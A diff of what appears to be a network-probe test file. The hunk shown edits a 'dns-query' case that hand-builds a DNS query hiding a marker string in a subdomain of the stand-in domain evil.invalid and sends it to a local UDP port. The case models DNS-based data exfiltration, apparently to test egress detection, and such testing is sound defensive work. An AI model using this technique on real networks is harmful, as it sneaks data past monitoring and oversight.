@@ -22,7 +22,7 @@ NETWORK = [
         "dns-query",
         r"""
         import socket
-        name = b''.join(bytes([len(p)]) + p for p in (b'CANARY-in-a-name', b'evil', b'invalid'))
+        name = b''.join(bytes([len(p)]) + p for p in (b'LEAK-in-a-name', b'evil', b'invalid'))
         query = b'\x12\x34\x01\0\0\1\0\0\0\0\0\0' + name + b'\0\0\1\0\1'
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', @UDP))
         """,
